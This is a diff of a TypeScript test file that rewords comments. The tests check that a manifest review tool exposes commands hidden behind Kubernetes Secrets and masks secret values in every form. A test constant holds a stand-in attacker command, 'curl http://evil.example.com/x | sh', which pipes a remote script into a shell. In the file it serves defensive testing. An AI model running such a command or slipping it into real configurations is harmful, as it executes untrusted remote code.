@@ -3,8 +3,8 @@ import { compareApp } from '../../src/review/compare.ts'
 import { changedRepo, diffIn } from '../support/diff.ts'
 import { rendered } from '../support/rendered.ts'
 
-// Attacks by what is hidden (a change hides what it runs behind a Secret of its own), and on what is not hidden (a
-// value in another form). Each says whether commit be0c4d6 broke.
+// Attacks by hiding (a change hides what it runs behind a Secret of its own), and attacks on values that are not
+// hidden (a value in another form). The comments show whether be0c4d6 was vulnerable.
 
 const VALUE = 'hunter2topsecret'
 const EVIL = 'curl http://evil.example.com/x | sh'
@@ -30,7 +30,7 @@ spec:
 const configMap = (data: string) =>
   `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n  note: a\n  x: ${data}\n`
 
-/** What a diff of plain manifests gives. */
+/** Returns the diff of plain manifests. */
 async function diffOf(before: Record<string, string>, edits: Record<string, string>) {
   const folder = changedRepo({ 'apps/web.yaml': application('web', 'm'), ...before }, edits)
   return diffIn(folder)
@@ -76,7 +76,7 @@ describe('a change cannot hide what it runs behind a Secret of its own', () => {
     expect(app('web').objects[0]?.diff).toContain(EVIL)
   })
 
-  // be0c4d6 said: Images come from ***, which is new here.
+  // be0c4d6 showed: Images come from ***, which is new here.
   test('a registry in what a rule says', () => {
     const app = (image: string) =>
       rendered(
@@ -90,7 +90,7 @@ describe('a change cannot hide what it runs behind a Secret of its own', () => {
     )
   })
 
-  // be0c4d6 said nothing of it.
+  // be0c4d6 did not report it.
   test('what is hidden is named, with the Secret and the key', async () => {
     const { app } = await diffOf(
       { 'm/d.yaml': deployment('args: [serve]'), 'm/s.yaml': secret(`password: ${VALUE}`) },
@@ -177,7 +177,7 @@ describe('a value that was secret before the change is hidden in every form', ()
     expect(everything).not.toContain(VALUE)
   })
 
-  // Shown by be0c4d6: the Secret has it within a text.
+  // Shown by be0c4d6: the Secret contains it within a text.
   test('a parameter of Argo CD that is a part of a text in a Secret, in the object of the app as well', async () => {
     const helm = (note: string) =>
       `, helm: {parameters: [{name: seed, value: ${VALUE}}, {name: note, value: ${note}}]}`
@@ -201,7 +201,7 @@ describe('a value that was secret before the change is hidden in every form', ()
     expect(everything).not.toContain(VALUE)
   })
 
-  // be0c4d6 held.
+  // Did not break be0c4d6.
   test('one that is replaced by the next one', async () => {
     const next = 'hunter3othersecret'
     const files = (value: string) => ({
@@ -214,7 +214,7 @@ describe('a value that was secret before the change is hidden in every form', ()
   })
 })
 
-// be0c4d6 hid these words wherever they were.
+// be0c4d6 hid these words everywhere.
 test('words that everybody uses hide nothing', async () => {
   const words =
     'a: production, b: default, c: enabled, d: postgres, e: "true", f: "1", g: admin, h: frontend, i: "8080"'
